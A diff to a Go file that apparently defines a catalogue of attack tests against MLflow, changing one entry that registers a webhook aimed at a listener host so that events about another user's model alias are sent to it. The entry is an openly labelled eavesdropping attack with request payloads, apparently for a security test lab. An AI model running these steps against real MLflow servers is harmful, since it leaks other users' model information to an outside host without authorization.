@@ -40,12 +40,12 @@ var mlflowForgery = []Attack{
 	},
 	{
 		ID:    "mlflow/webhook-eavesdrop",
-		Doc:   "registers a webhook that is told what everybody else registers",
+		Doc:   "registers a webhook that is told which version of somebody else's model goes where",
 		Works: []string{"3.4.0"},
-		Steps: []Step{
-			post(api2+"/webhooks", `{"name": "lab-${nonce}", "url": "https://${listener}/hook", "events": [{"entity": "PROMPT", "action": "CREATED"}]}`).save("hook", "webhook.webhook_id"),
-			{Request: "POST " + api2 + "/registered-models/create\n\n" + `{"name": "secret-${nonce}", "tags": [{"key": "mlflow.prompt.is_prompt", "value": "true"}]}`, By: Victim, WaitHeard: "connection"},
-		},
+		Steps: steps(theirs(), theirModel(), []Step{
+			post(api2+"/webhooks", `{"name": "lab-${nonce}", "url": "https://${listener}/hook", "events": [{"entity": "MODEL_VERSION_ALIAS", "action": "CREATED"}]}`).save("hook", "webhook.webhook_id"),
+			{Request: "POST " + api2 + "/registered-models/alias\n\n" + `{"name": "secret-${nonce}", "alias": "champion", "version": "1"}`, By: Victim, WaitHeard: "connection"},
+		}),
 		Proof: Proof{Heard: "connection"},
 	},
 	{
